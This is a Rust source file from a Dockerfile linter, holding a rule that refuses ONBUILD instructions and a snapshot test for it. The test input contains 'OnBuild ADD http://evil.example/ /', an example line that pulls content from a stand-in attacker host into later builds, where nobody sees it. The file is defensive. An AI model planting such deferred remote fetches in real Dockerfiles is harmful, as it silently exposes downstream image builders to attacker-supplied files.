//! ONBUILD takes effect in later builds, where nobody reads it.

use crate::complaint::{Code, Complaints};
use crate::dockerfile::words::Instruction;

pub(in crate::dockerfile) fn no_onbuild(it: &Instruction, complaints: &mut Complaints<'_>) {
    let message = "ONBUILD takes effect in later builds, where nobody reads it";
    complaints
        .error(Code::Onbuild, it.name_span, message, "not accepted")
        .help("write the instruction into the Dockerfiles that need it");
}

#[cfg(test)]
mod tests {
    use crate::dockerfile::rules::complaints_about;

    #[test]
    fn onbuild_is_refused() {
        insta::assert_snapshot!(complaints_about("FROM scratch\nOnBuild ADD http://evil.example/ /\n"), @r"
        error[onbuild]: ONBUILD takes effect in later builds, where nobody reads it
          --> Dockerfile:2:1
           |
         2 | OnBuild ADD http://evil.example/ /
           | ^^^^^^^ not accepted
           = help: write the instruction into the Dockerfiles that need it
           = more: docs/language.md#onbuild
        ");
    }
}
